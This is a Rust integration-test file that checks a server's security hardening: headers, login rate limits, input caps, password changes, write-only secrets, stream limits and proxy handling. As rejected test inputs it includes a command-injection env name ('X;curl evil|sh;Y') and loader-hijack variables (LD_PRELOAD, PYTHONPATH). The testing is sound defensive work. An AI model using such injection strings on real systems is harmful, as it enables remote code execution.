//! The hardening issue against a real server (SQLite, real HTTP on loopback): hostile input
//! costs little and gets a clear answer, limits hold under parallel attempts, secrets stay
//! secret, every answer carries the security headers.

mod common;

use ds_studio_server::store::accounts::CredentialKind;
use ds_studio_shared::api::Role;
use reqwest::{Method, StatusCode};
use serde_json::{json, Value};

const ADMIN: &str = "admin-token-for-hardening-0123456789";

/// The common client with the store behind the server and the directory of its files.
struct Api {
    client: common::Api,
    store: ds_studio_server::store::Store,
    store_dir: std::path::PathBuf,
}

impl std::ops::Deref for Api {
    type Target = common::Api;
    fn deref(&self) -> &common::Api {
        &self.client
    }
}

impl Api {
    async fn start() -> Api {
        let store_dir = common::scratch("hardening");
        let store = ds_studio_server::store::Store::open_sqlite(&store_dir)
            .await
            .unwrap();
        Api {
            client: common::Api::on(store.clone(), Some(ADMIN)).await,
            store,
            store_dir,
        }
    }

    /// (status, JSON, headers).
    async fn call(
        &self,
        m: Method,
        path: &str,
        bearer: Option<&str>,
        body: Option<Value>,
    ) -> (StatusCode, Value, reqwest::header::HeaderMap) {
        self.client.call_with_headers(m, path, bearer, body).await
    }

    async fn user(&self, name: &str, password: Option<&str>) -> (i64, String) {
        let hash = password.map(ds_studio_server::secrets::hash_password);
        let u = self
            .store
            .create_user(name, name, hash.as_deref(), false)
            .await
            .unwrap();
        let team = self.store.team_by_name("default").await.unwrap();
        self.store
            .put_member(team.id, u.id, Role::Editor)
            .await
            .unwrap();
        let (tok, _) = self
            .store
            .create_credential(u.id, CredentialKind::ApiToken, "t", None)
            .await
            .unwrap();
        (u.id, tok)
    }
}

#[tokio::test]
async fn every_answer_carries_the_security_headers() {
    let api = Api::start().await;
    for path in [
        "/healthz",
        "/api/v1/schema",
        "/api/v1/templates",
        "/api/openapi.json",
        "/no/such/page",
    ] {
        let (_, _, h) = api.call(Method::GET, path, None, None).await;
        let csp = h["content-security-policy"].to_str().unwrap();
        assert!(
            csp.contains("script-src 'self' 'wasm-unsafe-eval'")
                && csp.contains("frame-ancestors 'none'")
                && !csp.contains("script-src 'self' 'unsafe-inline'"),
            "{path}: {csp}"
        );
        assert_eq!(h["x-content-type-options"], "nosniff", "{path}");
        assert_eq!(h["x-frame-options"], "DENY", "{path}");
        assert!(h.contains_key("referrer-policy"), "{path}");
        // Plain http here: no HSTS.
        assert!(!h.contains_key("strict-transport-security"), "{path}");
    }
}

#[tokio::test]
async fn parallel_password_guesses_cannot_pass_the_limit_and_long_names_are_refused() {
    let api = Api::start().await;
    api.user("mei", Some("s3cret-pass")).await;
    let guesses = (0..60).map(|i| {
        let http = api.http.clone();
        let url = format!("{}/api/v1/auth/login", api.base);
        async move {
            http.post(url)
                .json(&json!({"username": "mei", "password": format!("guess-{i}")}))
                .send()
                .await
                .unwrap()
                .status()
        }
    });
    let statuses = futures_util::future::join_all(guesses).await;
    let checked = statuses
        .iter()
        .filter(|s| **s == StatusCode::UNAUTHORIZED)
        .count();
    let refused = statuses
        .iter()
        .filter(|s| **s == StatusCode::TOO_MANY_REQUESTS)
        .count();
    assert_eq!(checked, 10, "{statuses:?}");
    assert_eq!(refused, 50, "{statuses:?}");
    // A 4 MiB user name is refused before any lookup, and never enters the limiter.
    let (s, b, _) = api
        .call(
            Method::POST,
            "/api/v1/auth/login",
            None,
            Some(json!({"username": "x".repeat(100_000), "password": "p"})),
        )
        .await;
    assert_eq!(s, StatusCode::UNPROCESSABLE_ENTITY, "{b}");
    assert!(
        b["error"]["message"].as_str().unwrap().contains("64"),
        "{b}"
    );
}

#[tokio::test]
async fn anonymous_validation_is_limited_per_client_and_signed_in_callers_are_not() {
    let api = Api::start().await;
    let body = json!({"config": {"train_batch_size": 8}});
    let mut limited = None;
    for i in 0..200 {
        let (s, _, h) = api
            .call(Method::POST, "/api/v1/validate", None, Some(body.clone()))
            .await;
        if s == StatusCode::TOO_MANY_REQUESTS {
            assert!(h.contains_key("retry-after"));
            limited = Some(i);
            break;
        }
        assert_eq!(s, StatusCode::OK);
    }
    assert_eq!(
        limited,
        Some(120),
        "the 121st anonymous call in a minute is refused"
    );
    let (_, tok) = api.user("ana", None).await;
    let (s, _, _) = api
        .call(Method::POST, "/api/v1/validate", Some(&tok), Some(body))
        .await;
    assert_eq!(
        s,
        StatusCode::OK,
        "a signed-in caller is not limited per address"
    );
}

/// Pathological documents an anonymous caller may send: answered, capped, and positioned
/// (their cost is measured by `cargo xtask bench-hostile`, not here).
#[tokio::test]
async fn pathological_documents_from_anyone_are_answered_capped() {
    let api = Api::start().await;
    let mut dups = String::from("{");
    for i in 0..170_000 {
        if i > 0 {
            dups.push(',');
        }
        dups.push_str("\"a\":0");
    }
    dups.push('}');
    // 120 levels of 1 KB keys over 20,000 members: a pointer per node was gigabytes.
    let key = "k".repeat(1024);
    let mut deep = String::from("{");
    for i in 0..40 {
        deep.push_str(&format!("\"unknown_{i}\": \"auto\", "));
    }
    for i in 0..120 {
        deep.push_str(&format!("\"{key}{i}\": {{"));
    }
    for i in 0..20_000 {
        deep.push_str(&format!("\"m{i}\": \"auto\", "));
    }
    deep.push_str("\"m0\": 1");
    deep.push_str(&"}".repeat(121));
    for (text, expect) in [
        (dups, "more duplicate keys"),
        (deep, "more problems not listed"),
    ] {
        let (s, b, _) = api
            .call(
                Method::POST,
                "/api/v1/validate",
                None,
                Some(json!({"config_text": text})),
            )
            .await;
        assert_eq!(s, StatusCode::OK);
        assert_eq!(b["verdict"], "rejected");
        let diags = b["diagnostics"].as_array().unwrap();
        assert!(diags.len() <= 500, "{}", diags.len());
        assert!(
            diags
                .iter()
                .any(|d| d["message"]["en"].as_str().unwrap_or("").contains(expect)),
            "{expect}"
        );
        assert!(diags
            .iter()
            .all(|d| d["path"].as_str().unwrap_or("").len() <= 4096));
    }
}

#[tokio::test]
async fn changing_your_password_needs_the_old_one_and_ends_your_other_sessions() {
    let api = Api::start().await;
    let (id, tok) = api.user("kai", Some("old-password-1")).await;
    let login = || async {
        let r = api
            .http
            .post(format!("{}/api/v1/auth/login", api.base))
            .json(&json!({"username": "kai", "password": "old-password-1"}))
            .send()
            .await
            .unwrap();
        assert_eq!(r.status(), StatusCode::OK);
        r.headers()["set-cookie"]
            .to_str()
            .unwrap()
            .split(';')
            .next()
            .unwrap()
            .to_string()
    };
    let other_session = login().await;
    let path = format!("/api/v1/users/{id}");
    let (s, b, _) = api
        .call(
            Method::PATCH,
            &path,
            Some(&tok),
            Some(json!({"password": "new-password-2"})),
        )
        .await;
    assert_eq!(s, StatusCode::UNPROCESSABLE_ENTITY, "{b}");
    assert!(b["error"]["message"]
        .as_str()
        .unwrap()
        .contains("old_password"));
    let (s, _, _) = api
        .call(
            Method::PATCH,
            &path,
            Some(&tok),
            Some(json!({"password": "new-password-2", "old_password": "wrong-one"})),
        )
        .await;
    assert_eq!(s, StatusCode::FORBIDDEN);
    let (s, b, _) = api
        .call(
            Method::PATCH,
            &path,
            Some(&tok),
            Some(json!({"password": "new-password-2", "old_password": "old-password-1"})),
        )
        .await;
    assert_eq!(s, StatusCode::OK, "{b}");
    // The browser session opened with the old password is over.
    let r = api
        .http
        .get(format!("{}/api/v1/auth/me", api.base))
        .header("cookie", &other_session)
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), StatusCode::UNAUTHORIZED);
    // A server admin resets someone else's password without it.
    let (s, _, _) = api
        .call(
            Method::PATCH,
            &path,
            Some(ADMIN),
            Some(json!({"password": "reset-by-admin"})),
        )
        .await;
    assert_eq!(s, StatusCode::OK);
}

#[tokio::test]
async fn secret_env_is_write_only_reaches_the_runner_and_is_forgotten_when_the_job_ends() {
    let api = Api::start().await;
    let (s, t, _) = api
        .call(
            Method::POST,
            "/api/v1/templates",
            Some(ADMIN),
            Some(json!({"name": "s", "config": {"train_batch_size": 1}})),
        )
        .await;
    assert_eq!(s, StatusCode::CREATED, "{t}");
    let (_, made, _) = api
        .call(
            Method::POST,
            "/api/v1/runner-tokens",
            Some(ADMIN),
            Some(json!({"runner": "r1"})),
        )
        .await;
    let rt = made["token"].as_str().unwrap().to_string();
    let (_, r, _) = api
        .call(
            Method::POST,
            "/api/v1/runners",
            Some(&rt),
            Some(json!({"name": "r1", "backend": "local"})),
        )
        .await;
    let (s, job, _) = api
        .call(
            Method::POST,
            "/api/v1/jobs",
            Some(ADMIN),
            Some(
                json!({"template_id": t["id"], "workload": {"builtin": "gpt"},
                        "env": {"NCCL_DEBUG": "INFO"},
                        "secret_env": {"HF_TOKEN": "hf_very_secret"}}),
            ),
        )
        .await;
    assert_eq!(s, StatusCode::CREATED, "{job}");
    let shown = job.to_string();
    assert!(!shown.contains("hf_very_secret"), "{shown}");
    assert_eq!(job["secret_env_names"], json!(["HF_TOKEN"]));
    let (_, listed, _) = api
        .call(Method::GET, "/api/v1/jobs", Some(ADMIN), None)
        .await;
    assert!(!listed.to_string().contains("hf_very_secret"));
    // Loader variables are refused in secret_env too.
    let (s, b, _) = api
        .call(
            Method::POST,
            "/api/v1/jobs",
            Some(ADMIN),
            Some(
                json!({"template_id": t["id"], "workload": {"builtin": "gpt"},
                        "secret_env": {"LD_PRELOAD": "/x.so"}}),
            ),
        )
        .await;
    assert_eq!(s, StatusCode::UNPROCESSABLE_ENTITY);
    assert!(b["error"]["message"]
        .as_str()
        .unwrap()
        .contains("LD_PRELOAD"));
    let runner = r["id"].as_i64().unwrap();
    let (s, claimed, _) = api
        .call(
            Method::POST,
            &format!("/api/v1/runners/{runner}/claim"),
            Some(&rt),
            None,
        )
        .await;
    assert_eq!(s, StatusCode::OK);
    assert_eq!(claimed["secret_env"]["HF_TOKEN"], "hf_very_secret");
    let id = claimed["job"]["id"].as_i64().unwrap();
    let (s, _, _) = api
        .call(
            Method::POST,
            &format!("/api/v1/runners/{runner}/jobs/{id}/state"),
            Some(&rt),
            Some(json!({"state": "succeeded", "exit_code": 0})),
        )
        .await;
    assert_eq!(s, StatusCode::OK);
    assert!(api.store.job_secrets(id).await.unwrap().is_empty());
    // The job still says which secrets it had, and the database files no longer hold the value.
    let (_, ended, _) = api
        .call(
            Method::GET,
            &format!("/api/v1/jobs/{id}"),
            Some(ADMIN),
            None,
        )
        .await;
    assert_eq!(ended["secret_env_names"], json!(["HF_TOKEN"]));
    let dir = api.store_dir.clone();
    for f in ["ds-studio.db", "ds-studio.db-wal"] {
        let bytes = std::fs::read(dir.join(f)).unwrap_or_default();
        let found = bytes
            .windows(b"hf_very_secret".len())
            .any(|w| w == b"hf_very_secret");
        assert!(!found, "{f} still holds the secret");
    }
}

#[tokio::test]
async fn huge_limits_and_hostile_env_names_get_a_422_naming_the_field() {
    let api = Api::start().await;
    let (_, t, _) = api
        .call(
            Method::POST,
            "/api/v1/templates",
            Some(ADMIN),
            Some(json!({"name": "h", "config": {"train_batch_size": 1}})),
        )
        .await;
    for (extra, names) in [
        (json!({"time_limit_s": u64::MAX}), "time_limit_s"),
        (json!({"max_steps": 4_000_000_000u64}), "max_steps"),
        (json!({"gpus": 100_000}), "gpus"),
        (
            json!({"env": {"X;curl evil|sh;Y": "1"}}),
            "is not a variable name",
        ),
        (json!({"env": {"PYTHONPATH": "/tmp"}}), "PYTHONPATH"),
    ] {
        let mut body = json!({"template_id": t["id"], "workload": {"builtin": "gpt"}});
        body.as_object_mut()
            .unwrap()
            .extend(extra.as_object().unwrap().clone());
        let (s, b, _) = api
            .call(Method::POST, "/api/v1/jobs", Some(ADMIN), Some(body))
            .await;
        assert_eq!(s, StatusCode::UNPROCESSABLE_ENTITY, "{extra}: {b}");
        assert!(
            b["error"]["message"].as_str().unwrap().contains(names),
            "{extra}: {b}"
        );
    }
    // Long descriptions and messages are refused, naming the limit.
    let (s, b, _) = api
        .call(
            Method::POST,
            "/api/v1/templates",
            Some(ADMIN),
            Some(json!({"name": "long", "description": "d".repeat(5000), "config": {}})),
        )
        .await;
    assert_eq!(s, StatusCode::UNPROCESSABLE_ENTITY);
    assert!(b["error"]["message"]
        .as_str()
        .unwrap()
        .contains("description"));
}

#[tokio::test]
async fn a_user_may_hold_a_bounded_number_of_live_streams() {
    let api = Api::start().await;
    let (_, t, _) = api
        .call(
            Method::POST,
            "/api/v1/templates",
            Some(ADMIN),
            Some(json!({"name": "st", "config": {"train_batch_size": 1}})),
        )
        .await;
    // No runner serves this server: the job stays queued and its stream stays open.
    let (_, job, _) = api
        .call(
            Method::POST,
            "/api/v1/jobs",
            Some(ADMIN),
            Some(json!({"template_id": t["id"], "workload": {"builtin": "gpt"}})),
        )
        .await;
    let id = job["id"].as_i64().unwrap();
    let url = format!("{}/api/v1/jobs/{id}/events", api.base);
    let mut open = Vec::new();
    for _ in 0..ds_studio_server::limits::STREAMS_PER_USER {
        let r = api.http.get(&url).bearer_auth(ADMIN).send().await.unwrap();
        assert_eq!(r.status(), StatusCode::OK);
        open.push(r);
    }
    let r = api.http.get(&url).bearer_auth(ADMIN).send().await.unwrap();
    assert_eq!(r.status(), StatusCode::TOO_MANY_REQUESTS);
    // Closing one gives its slot back.
    drop(open.pop());
    let mut ok = false;
    for _ in 0..50 {
        tokio::time::sleep(std::time::Duration::from_millis(100)).await;
        let r = api.http.get(&url).bearer_auth(ADMIN).send().await.unwrap();
        if r.status() == StatusCode::OK {
            ok = true;
            break;
        }
    }
    assert!(ok, "a closed stream's slot came back");
}

/// Behind a trusted reverse proxy, each client it forwards has its own limits; a client that
/// is not the proxy cannot choose its address with the header.
#[tokio::test]
async fn clients_behind_a_trusted_proxy_are_limited_one_by_one() {
    let store = common::sqlite_store().await;
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let base = format!("http://{}", listener.local_addr().unwrap());
    ds_studio_server::bootstrap::ensure_admin(&store, &base)
        .await
        .unwrap();
    let mut state = ds_studio_server::AppState::new(store, common::scratch("static"), &base);
    state.trusted_proxies = vec!["127.0.0.1".parse().unwrap()].into();
    tokio::spawn(async move {
        ds_studio_server::serve(listener, state, std::future::pending())
            .await
            .unwrap();
    });
    let http = common::http_client();
    let body = json!({"config": {"train_batch_size": 8}});
    let post = |client: &'static str| {
        let (http, base, body) = (http.clone(), base.clone(), body.clone());
        async move {
            http.post(format!("{base}/api/v1/validate"))
                .header("x-forwarded-for", format!("198.51.100.7, {client}"))
                .json(&body)
                .send()
                .await
                .unwrap()
                .status()
        }
    };
    for _ in 0..120 {
        assert_eq!(post("203.0.113.1").await, StatusCode::OK);
    }
    assert_eq!(post("203.0.113.1").await, StatusCode::TOO_MANY_REQUESTS);
    // Another client behind the same proxy has its own budget.
    assert_eq!(post("203.0.113.2").await, StatusCode::OK);
}
